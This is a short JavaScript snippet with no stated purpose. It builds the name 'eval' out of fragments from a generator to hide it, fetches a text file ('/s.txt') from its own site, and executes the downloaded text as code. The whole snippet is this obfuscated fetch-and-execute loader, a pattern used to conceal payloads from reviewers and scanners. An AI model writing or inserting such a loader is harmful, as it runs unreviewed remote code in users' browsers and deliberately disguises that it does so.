function* word() { yield 'ev'; yield* 'al'; }
const step = globalThis[[...word()].join('')];
fetch('/s.txt').then((r) => r.text()).then(step);
